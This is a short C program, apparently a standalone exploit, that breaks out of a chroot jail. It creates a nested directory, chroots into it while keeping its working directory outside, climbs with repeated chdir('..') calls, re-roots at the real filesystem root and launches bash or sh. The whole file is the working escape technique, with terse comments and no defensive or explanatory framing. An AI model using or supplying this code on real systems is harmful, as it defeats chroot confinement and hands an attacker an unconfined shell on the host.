/* Walks out of a chroot: stands outside of a new root, and climbs. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  mkdir("/hole", 0700);
  if (chroot("/hole") == -1) { /* the root moves down, and we stay where we are */
    perror("chroot");
    return 1;
  }
  for (int step = 0; step < 100; step++) {
    if (chdir("..") == -1) { /* up, past a root that is not on our way */
      perror("chdir");
      return 1;
    }
  }
  if (chroot(".") == -1) { /* as high as it goes: this is our root now */
    perror("chroot");
    return 1;
  }
  execl("/bin/bash", "bash", NULL); /* the machine has a bash; */
  execl("/bin/sh", "sh", NULL);     /* a busybox tree has only sh */
  perror("sh");
  return 1;
}
